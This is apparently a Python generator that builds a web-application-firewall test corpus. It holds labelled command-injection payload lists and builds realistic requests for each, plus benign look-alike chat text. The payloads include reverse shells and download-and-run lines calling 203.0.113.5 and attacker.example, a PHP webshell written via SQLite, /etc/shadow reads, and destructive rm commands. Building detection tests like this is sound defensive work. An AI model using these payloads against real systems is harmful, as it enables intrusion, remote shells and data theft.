T_EVASION = [  # Unix Command Injection evasion attempt detected
    P("php", ";w'h'o'am'i"),  # PHP: single quotes splitting a command
    P("node", "|c\"a\"t /e\"t\"c/passwd"),  # Node/Express: double quotes splitting words
    P("python", ";/b'i'n/s'h'"),  # Python/Flask: quoted path
    P("ruby", "`ba\\sh -c id`"),  # Ruby/Rails: backslash in a command name
    P("java", ";$'\\x63\\x61\\x74' /etc/passwd"),  # Java/Spring: ANSI-C quoted command name
    P("go", ";c${x}at /etc/hosts"),  # Go: unset variable inside a word
    P("cgi", "|un``ame -a"),  # CGI/Bash: empty backticks
    P("dotnet", ";i\\d"),  # .NET on Linux: escaped letter
    P("php", "&&who$@ami"),  # PHP/WordPress: empty $@
    P("python", ";$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)"),  # Python/Django: base64-decoded command
    P("node", ";e\\n\\v"),  # Node/Express: escapes in env
    P("ruby", ";p''s au\\x"),  # Ruby/Rails: empty quotes and a backslash
]

T_ALIAS = [  # Unix shell alias invocation
    P("php", "; alias ls='rm -rf /'"),  # PHP: shell_exec
    P("cgi", "alias l=ls;l -la"),  # CGI/Bash
    P("node", "|alias x=id; x"),  # Node/Express
    P("python", "; alias -p"),  # Python/Flask
    P("ruby", "&& alias sudo='sudo '"),  # Ruby/Rails
    P("java", ";unalias -a"),  # Java/Spring
    P("go", "`alias c=cat;c /etc/passwd`"),  # Go
    P("dotnet", "$(alias g=grep)"),  # .NET on Linux
    P("php", "; alias grep='bash -i >& /dev/tcp/203.0.113.5/1 0>&1'"),  # PHP/WordPress
    P("python", "alias  rm=\"echo\""),  # Python/Django
    P("cgi", "; alias hi=\"uname -a\"; hi"),  # CGI/Perl
]

T_HISTORY = [  # Unix shell history invocation
    P("php", ";!!"),  # PHP: bash -c with history expansion
    P("cgi", "; !-2"),  # CGI/Bash
    P("node", "| !ca"),  # Node/Express
    P("python", "&& !$"),  # Python/Flask
    P("ruby", ";!#"),  # Ruby/Rails
    P("java", "`!-1`"),  # Java/Spring
    P("go", "; history | tail"),  # Go
    P("dotnet", "; fc -s"),  # .NET on Linux
    P("php", "$(!!)"),  # PHP/Laravel
    P("python", "; !?passwd?"),  # Python/Django
    P("node", "; !1"),  # Node/Express
]

T_PIPES = [  # Unix command injection with pipes
    P("php", "x|id"),  # PHP: popen("grep " . $q, "r")
    P("cgi", "a|cat /etc/passwd"),  # CGI/Perl: open(F, "$file")
    P("node", "input.txt | nc 203.0.113.5 4444"),  # Node/Express
    P("python", "foo|sh"),  # Python/Flask
    P("ruby", "|base64 /etc/passwd"),  # Ruby/Rails: Kernel#open("|cmd")
    P("java", "x||id"),  # Java/Spring
    P("go", "a| tee /tmp/x"),  # Go
    P("dotnet", "data|xargs rm"),  # .NET on Linux
    P("php", "q|&id"),  # PHP/Drupal: |& pipe
    P("python", "|openssl s_client -connect 203.0.113.5:443"),  # Python/Django
    P("node", "file|awk '{print $1}' /etc/passwd"),  # Node/Express
    P("cgi", "user|sed -n 1p /etc/shadow"),  # CGI/Bash
]

T_SHORT = [  # Unix command injection, 2-3 letter commands
    P("php", ";ls"),  # PHP: exec()
    P("cgi", "|id"),  # CGI/Perl
    P("node", "&&ps"),  # Node/Express
    P("python", ";w"),  # Python/Flask
    P("ruby", "`df`"),  # Ruby/Rails: backticks
    P("java", "$(du)"),  # Java/Spring
    P("go", ";nc 203.0.113.5 1"),  # Go
    P("dotnet", "|od -c /etc/passwd"),  # .NET on Linux
    P("php", ";dd if=/etc/passwd"),  # PHP/WordPress
    P("python", "|sh"),  # Python/Django
    P("node", ";rm x"),  # Node/Express
    P("cgi", "&&ed"),  # CGI/Bash
]

T_SQLITE = [  # SQLite System Command Execution
    P("python", ".shell id"),  # Python/Flask: subprocess.run(["sqlite3", db], input=sql)
    P("php", ".system cat /etc/passwd"),  # PHP: shell_exec("sqlite3 db '" . $q . "'")
    P("node", "'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.p(d text); "
              "INSERT INTO x.p VALUES('<?php system($_GET[c]); ?>');--"),  # Node/Express: better-sqlite3 exec
    P("ruby", "1 UNION SELECT load_extension('/tmp/evil.so')"),  # Ruby/Rails: sqlite3 gem, extensions on
    P("go", ".once '|id'"),  # Go: sqlite3 CLI fed through stdin
    P("python", ".output |sh"),  # Python/Django: dbshell on stdin
    P("java", ".once '|curl http://attacker.example/x'"),  # Java: ProcessBuilder("sqlite3")
    P("php", ".load /tmp/evil.so"),  # PHP/Laravel: artisan db piped
    P("python", "select writefile('/tmp/x.sh', 'id')"),  # Python/Flask: sqlite3 CLI function
    P("node", "select edit('x', 'vi')"),  # Node/Express: sqlite3 CLI function
    P("cgi", ".shell uname -a"),  # CGI/Bash: sqlite3 "$db" "$QUERY"
]

T_SMTP = [  # SMTP Command Execution
    P("php", "victim@example.org\r\nRCPT TO:<attacker@example.net>"),  # PHP/WordPress: wp_mail Reply-To
    P("php", "a@example.org>\r\nDATA\r\nSubject: x\r\n\r\nspam\r\n.\r\nQUIT"),  # PHP: raw fsockopen SMTP
    P("python", "x\r\nMAIL FROM:<root@localhost>"),  # Python/Django: smtplib sendmail to_addrs
    P("ruby", "me@example.org\nVRFY root"),  # Ruby/Rails: Net::SMTP with a user address
    P("java", "ops@example.org\r\nEXPN postmaster"),  # Java/Spring: JavaMail raw transport
    P("node", "EHLO attacker.example\r\nAUTH LOGIN"),  # Node/Express: nodemailer name option
    P("go", "a@example.org\r\nHELO x\r\nMAIL FROM:<a@x.example>\r\nRCPT TO:<b@y.example>"),  # Go: net/smtp
    P("dotnet", "x@example.org\r\nRSET\r\nQUIT"),  # .NET: SmtpClient with a raw command
    P("cgi", "user@example.org\r\nSTARTTLS"),  # CGI/Perl: Net::SMTP
    P("php", "a@example.org\r\nBDAT 100 LAST"),  # PHP/Laravel: SwiftMailer transport
    P("python", "test@example.org\r\nETRN example.org"),  # Python/Flask: smtplib
]

T_IMAP = [  # IMAP Command Execution
    P("php", "INBOX\r\nA002 LIST \"\" \"*\""),  # PHP/SquirrelMail: mailbox parameter
    P("php", "INBOX\"\r\nA3 FETCH 1:* (BODY[HEADER])"),  # PHP/Roundcube: _mbox parameter
    P("python", "Sent\r\nX1 SELECT \"Drafts\""),  # Python/Django: imaplib select(param)
    P("ruby", "INBOX\r\na1 LOGIN admin x"),  # Ruby/Rails: Net::IMAP
    P("java", "INBOX\r\nT1 STORE 1:* +FLAGS (\\Deleted)"),  # Java/Spring: JavaMail folder name
    P("node", "INBOX\r\nA9 EXPUNGE"),  # Node/Express: imap client box name
    P("go", "INBOX\r\nA1 CAPABILITY"),  # Go: go-imap mailbox
    P("dotnet", "INBOX\r\nA7 CREATE \"x\""),  # .NET: MailKit folder
    P("php", "INBOX\r\nZ1 UID FETCH 1:* RFC822"),  # PHP/Horde
    P("python", "INBOX\r\nA1 APPEND INBOX {10}"),  # Python/Flask: imaplib
    P("cgi", "INBOX\r\nA2 RENAME INBOX OLD"),  # CGI/Perl: Mail::IMAPClient
]

T_POP3 = [  # POP3 Command Execution
    P("php", "1\r\nUSER admin"),  # PHP: fsockopen POP3 message number
    P("php", "2\r\nRETR 1"),  # PHP/WordPress: post-by-email
    P("python", "1\r\nLIST"),  # Python/Django: poplib
    P("ruby", "3\r\nDELE 1"),  # Ruby/Rails: Net::POP3
    P("java", "1\r\nSTAT"),  # Java/Spring: JavaMail pop3
    P("node", "1\r\nTOP 1 0"),  # Node/Express: poplib client
    P("go", "1\r\nUIDL"),  # Go: pop3 client
    P("dotnet", "1\r\nAPOP mrose c4c9334bac560ecc979e58001b3e22fb"),  # .NET: MailKit Pop3Client
    P("cgi", "1\r\nRETR 2"),  # CGI/Perl: Net::POP3
    P("php", "4\r\nRSET\r\nQUIT"),  # PHP/Laravel
    P("python", "1\r\nCAPA"),  # Python/Flask
]

T_WINDOWS_EVASION = [  # Windows Command Injection (cmd, powershell with evasions)
    P("dotnet", "& w^h^o^a^m^i"),  # .NET/IIS: caret escapes in cmd.exe
    P("dotnet", "| c^md /c \"type c:\\windows\\win.ini\""),  # .NET/ASP.NET
    P("php", "& who\"\"ami"),  # PHP/XAMPP: empty quotes
    P("java", "&& %COMSPEC% /c dir"),  # Java/Tomcat on Windows: environment variable
    P("node", "| cmd /c set"),  # Node on Windows
    P("python", "& %ProgramData:~0,1%%ProgramData:~9,2% /c whoami"),  # Python on Windows: substrings
    P("dotnet", "& powershell -c \"i`ex (iwr http://203.0.113.5/a)\""),  # .NET: backtick in a cmdlet alias
    P("ruby", "| C:\\Windows\\System32\\cmd.exe /k ver"),  # Ruby on Windows: full path
    P("go", "& cmd.exe /c \"n^e^t u^s^e^r\""),  # Go on Windows
    P("cgi", "&& start /b calc.exe"),  # CGI on IIS
    P("php", "| p^o^w^e^r^s^h^e^l^l -nop -c whoami"),  # PHP on IIS
    P("java", "& c:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -c hostname"),  # Java
]

T_SHELL_HEADERS = [  # Unix Shell Code Found in REQUEST_HEADERS
    P("cgi", "/bin/bash -c 'id'", header="User-Agent"),  # CGI: HTTP_USER_AGENT in a shell script
    P("php", "https://app.example.com/?x=/bin/sh", header="Referer"),  # PHP: stats plugin exec(referer)
    P("node", "/usr/bin/curl", header="X-Forwarded-For"),  # Node/Express: logs piped to a shell
    P("python", "/bin/sh -i", header="Referer"),  # Python/Flask: header into os.system
    P("ruby", "/usr/bin/perl -e 'exec \"/bin/sh\"'", header="User-Agent"),  # Ruby/Rails: UA logger
    P("go", "/bin/nc 203.0.113.5 4444", header="X-Callback"),  # Go: webhook header into sh -c
    P("dotnet", "/usr/bin/python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", header="Cookie"),  # .NET Linux
    P("cgi", "/bin/busybox wget http://203.0.113.5/m", header="User-Agent"),  # CGI on an IoT router
    P("php", "/usr/bin/wget -qO- http://203.0.113.5/x | /bin/bash", header="Referer"),  # PHP/WordPress
    P("java", "/bin/zsh", header="X-Debug-Cmd"),  # Java/Spring: debug header
    P("python", "/usr/bin/nc.openbsd 203.0.113.5 9", header="Accept-Language"),  # Python/Django
]

T_DIRECT_ABS = [  # Direct Unix Command Execution (absolute paths, wildcards)
    P("php", "/bin/cat /etc/passwd"),  # PHP: system($_GET['c'])
    P("cgi", "/usr/bin/id"),  # CGI/Bash
    P("node", "/???/??t /???/???s??"),  # Node/Express
    P("python", "/usr/bin/wh*mi"),  # Python/Flask
    P("ruby", "/bin/l? -la"),  # Ruby/Rails
    P("java", "/usr/bin/env"),  # Java/Spring
    P("go", "/sbin/ifconfig"),  # Go
    P("dotnet", "/usr/sbin/useradd x"),  # .NET on Linux
    P("php", "/b[i]n/c[a]t /e[t]c/p[a]sswd"),  # PHP/Laravel
    P("python", "/usr/bin/n? -e /bin/sh 203.0.113.5 4444"),  # Python/Django
    P("node", "/bin/s* -c id"),  # Node/Express
    P("cgi", "/usr/local/bin/python3 -V"),  # CGI/Perl
]

TITLES = [
    Title("lfi", "path-traversal-930100", "any", T930100),
    Title("lfi", "path-traversal-930110", "any", T930110),
    Title("lfi", "os-file-access", "any", T930120),
    Title("lfi", "restricted-file-access", "any", T930130),
    Title("lfi", "os-file-access-headers", "header", T_OS_FILE_HEADERS),
    Title("lfi", "path-traversal-triple-dot", "any", T_TRIPLE_DOT),
    Title("rfi", "rfi-url-ip-address", "any", T931100),
    Title("rfi", "rfi-common-param-name", "pair", T931110),
    Title("rfi", "rfi-trailing-question-mark", "any", T931120),
    Title("rfi", "rfi-off-domain-reference", "any", T931130),
    Title("rce", "unix-command-injection-932100", "any", T932100),
    Title("rce", "unix-command-injection-932105", "any", T932105),
    Title("rce", "windows-command-injection-932110", "any", T932110),
    Title("rce", "windows-command-injection-932115", "any", T932115),
    Title("rce", "windows-powershell-command", "any", T932120),
    Title("rce", "unix-shell-expression", "any", T932130),
    Title("rce", "windows-for-if-command", "any", T932140),
    Title("rce", "direct-unix-command-execution", "any", T932150),
    Title("rce", "unix-shell-code", "any", T932160),
    Title("rce", "shellshock-932170", "header", T932170),
    Title("rce", "shellshock-932171", "args", T932171),
    Title("rce", "restricted-file-upload", "upload", T932180),
    Title("rce", "rce-bypass-technique", "any", T932200),
    Title("rce", "unix-command-injection-no-evasion", "any", T_NO_EVASION),
    Title("rce", "unix-command-injection-evasion", "any", T_EVASION),
    Title("rce", "unix-shell-alias-invocation", "any", T_ALIAS),
    Title("rce", "unix-shell-history-invocation", "any", T_HISTORY),
    Title("rce", "unix-command-injection-pipes", "any", T_PIPES),
    Title("rce", "unix-short-commands", "any", T_SHORT),
    Title("rce", "sqlite-system-command", "any", T_SQLITE),
    Title("rce", "smtp-command-execution", "crlf", T_SMTP),
    Title("rce", "imap-command-execution", "crlf", T_IMAP),
    Title("rce", "pop3-command-execution", "crlf", T_POP3),
    Title("rce", "windows-command-injection-evasion", "any", T_WINDOWS_EVASION),
    Title("rce", "unix-shell-code-headers", "header", T_SHELL_HEADERS),
    Title("rce", "direct-unix-command-abs-path", "any", T_DIRECT_ABS),
]

# Where each kind of title's payloads go: once to our routes, once as a regression suite sends them.
REAL = {
    "any": ["query", "form", "json", "cookie", "header:User-Agent", "param-name", "xml", "multipart-field",
            "path", "header:Referer", "header:X-Api-Client"],
    "header": ["header"],
    "upload": ["multipart-filename", "multipart-filename", "header:X-File-Name"],
    "pair": ["query", "form", "json", "cookie", "multipart-field"],
    "crlf": ["query", "form", "json", "xml", "multipart-field"],
    "args": ["query", "form", "json", "param-name", "multipart-field", "multipart-filename", "xml"],
}
RS = {
    "any": ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
            "rs-header:X-Custom-Header", "rs-cookie"],
    "header": ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom-Header", "rs-cookie"],
    "upload": ["rs-multipart-filename", "rs-header:X-Filename"],
    "pair": ["rs-query", "rs-form", "rs-json", "rs-cookie"],
    "crlf": ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body"],
    "args": ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body"],
}

# the parameter a family's payload is read from, by family
BASES = {"lfi": ["file", "page", "template", "path", "doc", "lang"],
         "rfi": ["url", "page", "include", "src", "template", "module"],
         "rce": ["host", "cmd", "ip", "filename", "target", "domain"]}
COOKIE_SAFE = "/:$()|&`\\"
SUITE_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
SUITE_PATHS = ["/", "/get", "/search", "/api/v1/items", "/post"]

rng = random.Random(121)


def tok(n: int = 24) -> str:
    return "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


def hexs(n: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def u_encode(s: str) -> str:
    """IIS / ASP.NET %u encoding of every character but letters and digits."""
    out = []
    for c in s:
        if c.isascii() and c.isalnum():
            out.append(c)
        elif ord(c) < 0x10000:
            out.append(f"%u{ord(c):04x}")
        else:
            out.append(urllib.parse.quote(c, safe=""))
    return "".join(out)


def url_value(p: P, safe: str = "") -> str:
    """The payload as a query or form value of its stack."""
    if p.raw:
        return p.payload
    if p.stack == "dotnet":
        return u_encode(p.payload)
    return urllib.parse.quote(p.payload, safe=safe)


def header_safe(s: str) -> str:
    return s.replace("\r", "%0d").replace("\n", "%0a").replace("\x00", "%00")


def stack_name(stack: str, base: str, i: int) -> str:
    """How the stack's parameters carry a field named `base`."""
    if stack == "php":
        return [f"{base}[]", f"opts[{base}]", base][i % 3]
    if stack == "node":
        return [f"filter[{base}]", f"where[{base}][eq]"][i % 2]
    if stack == "ruby":
        return f"user[{base}]"
    if stack == "dotnet":
        return f"ctl00$MainContent${base.capitalize()}"
    return base


def stack_json(stack: str, base: str, value: str) -> dict[str, Any]:
    """A JSON document of the stack carrying `value` under `base`."""
    if stack == "php":
        return {"action": "save", "opts": {base: value}}
    if stack == "node":
        return {"filter": {"where": {base: value}}, "limit": 20}
    if stack == "python":
        return {base + "s": ["report.txt", value], "page": 1}
    if stack == "ruby":
        return {"user": {"name": "Ann", base: value}}
    if stack == "java":
        return {"config": {base: value, "locale": "en_US"}}
    if stack == "dotnet":
        return {"Model": {base.capitalize(): value}, "__RequestVerificationToken": tok()}
    return {base: value, "page": 1}


def browser_headers(extra: dict[str, str] | None = None) -> dict[str, str]:
    h = {"User-Agent": BROWSER_UA, "Accept": "application/json, text/plain, */*",
         "Accept-Language": "en-US,en;q=0.9", "Accept-Encoding": "gzip, deflate, br",
         "Referer": "https://app.example.com/admin/users", "Cookie": f"session={tok(32)}; consent=1"}
    h.update(extra or {})
    return h


def suite_headers(extra: dict[str, str] | None = None) -> dict[str, str]:
    h = {"User-Agent": SUITE_UA, "Accept": "*/*"}
    h.update(extra or {})
    return h


def multipart(fields: list[tuple[str, str]], file: tuple[str, str, str] | None = None) -> tuple[str, str]:
    """A multipart/form-data body (fields, then an optional file: field, filename, content) and its type."""
    boundary = "----WebKitFormBoundary" + tok(16)
    parts = []
    for name, value in fields:
        parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    if file is not None:
        field, filename, content = file
        parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{filename}\""
                     f"\r\nContent-Type: application/octet-stream\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{boundary}--\r\n", f"multipart/form-data; boundary={boundary}"


def stack_xml(stack: str, base: str, value: str) -> str:
    v = escape(value)
    if stack == "php":   # WordPress XML-RPC
        return ("<?xml version=\"1.0\"?><methodCall><methodName>wp.getOptions</methodName><params>"
                f"<param><value><string>{v}</string></value></param></params></methodCall>")
    if stack == "dotnet":   # ASMX SOAP
        return ("<?xml version=\"1.0\" encoding=\"utf-8\"?><soap:Envelope "
                "xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetDocument "
                f"xmlns=\"http://tempuri.org/\"><{base}>{v}</{base}></GetDocument></soap:Body></soap:Envelope>")
    if stack == "java":   # Spring / JAXB
        return f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><name>Ann</name><{base}>{v}</{base}></user>"
    return f"<?xml version=\"1.0\"?><request><{base}>{v}</{base}></request>"


def pair_split(p: P) -> tuple[str, str]:
    name, _, value = p.payload.partition("=")
    return name, value


def real_request(title: Title, p: P, place: str, i: int) -> tuple[str, dict[str, Any]]:
    """The payload on one of our routes; (placement, request)."""
    base = BASES[title.category][i % len(BASES[title.category])]
    name = stack_name(p.stack, base, i)
    if title.kind == "pair":
        name, value = pair_split(p)
        pv = P(p.stack, value)
    else:
        value, pv = p.payload, p
    if place == "header":   # header titles: the header the payload names
        if p.header == "Cookie":
            return "cookie", {"method": "GET", "uri": "/api/users?page=1", "body": "",
                              "headers": browser_headers({"Cookie": f"session={tok(32)}; lang={header_safe(value)}"})}
        return f"header:{p.header}", {"method": "GET", "uri": "/api/users?page=1", "body": "",
                                      "headers": browser_headers({p.header: header_safe(value)})}
    if place == "query":
        if title.kind == "pair":
            q = urllib.parse.quote(name, safe="[]") + "=" + urllib.parse.quote(value, safe=":/?")
        else:
            q = urllib.parse.quote(name, safe="[]$") + "=" + url_value(pv)
        path = f"/api/users;jsessionid={hexs(32).upper()}" if p.stack == "java" else "/api/users"
        first, second = (q, "page=1") if i % 2 == 0 else ("page=1", q)
        if p.stack == "python" and title.kind != "pair":
            first, second = f"{name}=report.txt", q
        return "query", {"method": "GET", "uri": f"{path}?{first}&{second}", "body": "",
                         "headers": browser_headers()}
    if place == "form":
        fields = [("csrf_token", tok())]
        if p.stack == "dotnet":
            fields += [("__VIEWSTATE", "/wEPDwUKLTI2" + tok(40)), ("__EVENTVALIDATION", "/wEdAAO" + tok(30))]
        elif p.stack == "python":
            fields += [("csrfmiddlewaretoken", tok(64)), (name, "report.txt")]
        elif p.stack == "ruby":
            fields += [("utf8", "\u2713"), ("authenticity_token", tok(44))]
        body = urllib.parse.urlencode(fields)
        if title.kind == "pair":
            body += "&" + urllib.parse.urlencode([(name, value)])
        elif p.raw:
            body += "&" + urllib.parse.quote(name, safe="[]$") + "=" + p.payload
        else:
            body += "&" + urllib.parse.urlencode([(name, value)])
        return "form", {"method": "POST", "uri": "/admin/users/search", "body": body,
                        "headers": browser_headers({"Content-Type": "application/x-www-form-urlencoded",
                                                    "Accept": "text/html,application/xhtml+xml"})}
    if place == "json":
        doc = {name: value} if title.kind == "pair" else stack_json(p.stack, base, value)
        uri = "/api/users/42" if i % 4 == 3 else "/api/users"
        return "json", {"method": "PATCH" if uri.endswith("42") else "POST", "uri": uri,
                        "body": json.dumps(doc, ensure_ascii=False),
                        "headers": browser_headers({"Content-Type": "application/json"})}
    if place == "cookie":
        if title.kind == "pair":
            cv = f"{urllib.parse.quote(name, safe='[]')}={urllib.parse.quote(value, safe=':/?')}"
        else:
            cname = {"php": "lang", "java": "pref", "dotnet": "culture", "node": "theme", "python": "django_language",
                     "ruby": "locale", "go": "pref", "cgi": "cmd"}[p.stack]
            cval = p.payload if p.raw else urllib.parse.quote(p.payload, safe=COOKIE_SAFE)
            cv = f"{cname}={cval}"
        return "cookie", {"method": "GET", "uri": "/api/users?page=1", "body": "",
                          "headers": browser_headers({"Cookie": f"session={tok(32)}; consent=1; {cv}"})}
    if place.startswith("header:"):
        hname = place.split(":", 1)[1]
        return place, {"method": "GET", "uri": "/api/users?page=2", "body": "",
                       "headers": browser_headers({hname: header_safe(value)})}
    if place == "param-name":
        if p.raw:
            pname = p.payload
        else:
            wrapped = {"php": "opts[{}]", "node": "filter[{}]", "ruby": "user[{}]"}.get(p.stack, "{}")
            inner = u_encode(p.payload) if p.stack == "dotnet" else urllib.parse.quote(p.payload, safe="")
            pname = wrapped.format(inner)
        return "param-name", {"method": "GET", "uri": f"/api/users?{pname}=1&page=1", "body": "",
                              "headers": browser_headers()}
    if place == "xml":
        return "xml", {"method": "POST", "uri": "/api/users", "body": stack_xml(p.stack, base, value),
                       "headers": browser_headers({"Content-Type": "application/xml"})}
    if place == "multipart-field":
        body, ctype = multipart([("csrf_token", tok()), (name, value)],
                                ("avatar", "avatar.png", "\x89PNG placeholder"))
        return "multipart-field", {"method": "POST", "uri": "/api/users/42/avatar", "body": body,
                                   "headers": browser_headers({"Content-Type": ctype})}
    if place == "multipart-filename":
        fname = header_safe(value).replace("\"", "%22")
        uri = "/admin/users/import" if i % 2 else "/api/users/42/attachments"
        body, ctype = multipart([("csrf_token", tok())], ("file", fname, "placeholder content"))
        return "multipart-filename", {"method": "POST", "uri": uri, "body": body,
                                      "headers": browser_headers({"Content-Type": ctype})}
    # path
    seg = p.payload if p.raw else urllib.parse.quote(p.payload, safe="")
    if p.stack == "java":
        uri = f"/api/users;{base}={seg}"
    elif p.stack == "php":
        uri = f"/api/users/{seg}"
    else:
        uri = f"/api/{seg}" if i % 2 else f"/api/users/{seg}"
    return "path", {"method": "GET", "uri": uri, "body": "", "headers": browser_headers()}


def suite_path(stack: str, i: int) -> str:
    if stack == "php":
        return "/index.php"
    if stack == "cgi":
        return "/cgi-bin/test.cgi"
    return SUITE_PATHS[i % len(SUITE_PATHS)]


def rs_request(title: Title, p: P, place: str, i: int) -> tuple[str, dict[str, Any]]:
    """The payload as a WAF regression suite sends it; (placement, request)."""
    path = suite_path(p.stack, i)
    arb = SUITE_NAMES[i % len(SUITE_NAMES)]
    name = {"php": f"{arb}[]", "node": f"{arb}[y]", "ruby": f"{arb}[name]"}.get(p.stack, arb)
    if title.kind == "pair":
        name, value = pair_split(p)
        pv = P(p.stack, value)
    else:
        value, pv = p.payload, p
    if place == "rs-query":
        if title.kind == "pair":
            q = urllib.parse.quote(name, safe="[]") + "=" + urllib.parse.quote(value, safe=":/?")
        else:
            q = urllib.parse.quote(name, safe="[]") + "=" + url_value(pv)
        if p.stack == "java":
            path += f";jsessionid={hexs(16)}"
        return place, {"method": "GET", "uri": f"{path}?{q}", "body": "", "headers": suite_headers()}
    if place == "rs-form":
        if title.kind == "pair" or not p.raw:
            body = urllib.parse.urlencode([(name, value)])
        else:
            body = urllib.parse.quote(name, safe="[]") + "=" + p.payload
        if p.stack == "python":
            body = f"{name}=a&" + body
        post = "/post" if path in ("/", "/get", "/search") else path
        return place, {"method": "POST", "uri": post, "body": body,
                       "headers": suite_headers({"Content-Type": "application/x-www-form-urlencoded"})}
    if place == "rs-json":
        doc: Any
        if title.kind == "pair":
            doc = {name: value}
        elif p.stack == "node":
            doc = {arb: {"nested": {"value": value}}}
        elif p.stack == "python":
            doc = {arb: [value]}
        else:
            doc = {arb: value}
        post = "/api/v1/items" if i % 2 else "/post"
        return place, {"method": "POST", "uri": post, "body": json.dumps(doc, ensure_ascii=False),
                       "headers": suite_headers({"Content-Type": "application/json"})}
    if place == "rs-xml":
        body = f"<?xml version=\"1.0\"?><root><{arb}>{escape(value)}</{arb}></root>"
        post = "/index.php" if p.stack == "php" else "/post"
        return place, {"method": "POST", "uri": post, "body": body,
                       "headers": suite_headers({"Content-Type": "application/xml"})}
    if place == "rs-raw-body":
        post = "/post" if path in ("/", "/get", "/search") else path
        return place, {"method": "POST", "uri": post, "body": value,
                       "headers": suite_headers({"Content-Type": "application/x-www-form-urlencoded"})}
    if place == "rs-cookie":
        cv = f"{name}={value}" if title.kind == "pair" else f"{arb}={header_safe(value)}"
        return place, {"method": "GET", "uri": path, "body": "", "headers": suite_headers({"Cookie": header_safe(cv)})}
    if place == "rs-multipart-filename":
        body, ctype = multipart([], (arb, header_safe(value).replace("\"", "%22"), "test"))
        post = "/post" if path in ("/", "/get", "/search") else path
        return place, {"method": "POST", "uri": post, "body": body, "headers": suite_headers({"Content-Type": ctype})}
    hname = place.split(":", 1)[1]   # rs-header:<name>
    return place, {"method": "GET", "uri": path, "body": "", "headers": suite_headers({hname: header_safe(value)})}


def attacks() -> Iterator[dict[str, Any]]:
    rng.seed(121)
    n = 0
    for t_idx, title in enumerate(TITLES):
        real, rs = REAL[title.kind], RS[title.kind]
        for i, p in enumerate(title.payloads):
            k = t_idx + i
            placements = [real[k % len(real)], rs[(3 * t_idx + i) % len(rs)]]
            if title.kind == "header" and placements[1].endswith(p.header):
                placements[1] = rs[(3 * t_idx + i + 1) % len(rs)]
            for which, place in enumerate(placements):
                placement, req = (real_request if which == 0 else rs_request)(title, p, place, i)
                n += 1
                yield {**req, "id": f"{NAME}-{title.category}-{n:04d}", "category": title.category,
                       "sub": title.sub, "placement": placement, "payload": p.payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently
# ---------------------------------------------------------------------------------------------------------------
SLACK_TEXTS = [
    "can someone cat the nginx error log on staging and paste the last 20 lines here?",
    "ping me when the deploy is done, I'll run the smoke tests",
    "the id column in the users table is a bigint now",
    "ls shows the file but the app can't read it, permissions again?",
    "PowerShell 7.4 is on the build agents, the Invoke-Build task works",
    "for each region we run the same terraform plan, then if it's clean we apply",
    "I set an alias in my .bashrc so `k` means kubectl, saves a lot of typing",
    "check your shell history, the command you ran yesterday is in there",
    "the /etc/passwd format is described in man 5 passwd, useful for the onboarding doc",
    "don't commit the .env file, it's in .gitignore for a reason",
    "the .htaccess rewrite rules from the old site are in the wiki",
    "IIS needs the web.config change for the new MIME types",
    "wget and curl are both in the base image now",
    "the cron job uses tar and gzip to rotate the exports",
    "Tom & Jerry is the codename for the two-node failover test",
    "who am I pairing with today? whoami says I'm on call lol",
    "sqlite is fine for the local cache, we ship postgres in prod",
    "our SMTP relay rejects mail without a valid HELO name, ask IT",
    "the IMAP sync for the support inbox is back, it was a TLS cert",
    "POP3 is turned off on the mail server since last year",
    "dir /b lists bare names on Windows, handy for the batch script",
    "the net user command is what the help desk uses to reset accounts",
    "we upload settings.json from the admin page, not the raw file",
    "the config.yml for the worker lives in the helm chart",
    "Shellshock was 2014, our bash is way past that, no worries",
    "the path ../docs in the README is relative to the repo root",
    "traversing the org chart with the new tool is much easier",
    "the SELECT in the report query needs an index on created_at",
    "logs are in /var/log/app/ on each node, rotated nightly",
    "grafana is at https://grafana.example.com/d/abc123/api-latency",
    "Jenkins job 'build | test | deploy' is green again",
    "the FOR loop in the migration script skipped the last batch, fixed in PR 482",
    "we use `sed -n 1p` to get the header row of the CSV",
    "the awk one-liner in the runbook sums column 3",
    "the wildcard cert *.example.com renews on the 14th",
    "the history page of the wiki shows who changed the runbook",
    "IF the build fails again I'll revert, otherwise ship it",
    "the cmd window on the kiosk PC keeps popping up at boot",
    "the printer's web UI is at 10.0.8.15, ask facilities for the password",
    "my pwsh profile loads posh-git, prompt looks great",
    "rm -rf node_modules fixed it for me, classic",
    "the uname of the new runner is Linux 6.8, arm64",
    "the backup script pipes pg_dump into gzip, then uploads to S3",
    "new hire Ed joins Monday, ED department is the emergency team's dashboard",
    "the .git folder should never be in the docker image, the dockerignore covers it",
    "the web.config transform for staging sets the connection string",
    "the template url for the newsletter is https://news.example.com/templates/weekly",
    "include the ticket number in the commit message please",
    "the WEB-INF folder in the war file has the web.xml and the libs",
    "do we still need the cgi-bin folder on the legacy server?",
    "the shell script checks `if [ -f /etc/os-release ]` before anything else",
    "$(date) in the log prefix prints the local time, not UTC",
    "the ${HOME} variable isn't set in the systemd unit, use an absolute path",
    "you can alias ll='ls -la' in your profile",
    "the !! trick in bash repeats the last command, saved my day",
    "the mailbox INBOX/Archive is where the old tickets go",
    "RETR and LIST are the POP3 commands, for the protocol quiz",
    "we send the DATA section after RCPT TO, per the SMTP RFC, for the training slides",
    "the file upload limit is 25 MB for attachments",
    "the root cause was a bad symlink in /opt/app/current",
]
SEARCHES = [
